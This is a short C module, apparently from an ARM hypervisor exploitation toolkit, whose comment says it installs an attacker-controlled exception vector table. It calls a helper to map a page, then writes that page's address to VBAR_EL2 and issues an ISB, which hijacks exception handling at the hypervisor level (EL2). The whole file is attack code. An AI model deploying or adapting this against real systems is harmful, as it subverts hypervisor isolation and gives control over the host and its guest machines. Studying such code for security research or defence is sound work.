/* Writes the address of a vector table of the attacker's own to VBAR_EL2. Runs at EL2. */
#include "vectors.h"

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  bool mapped;
  const uint64_t page = vectors_prepare(api, &mapped);
  if (!mapped) return 1;
  write_sysreg(VBAR_EL2, page);
  isb();
  return 0;
}
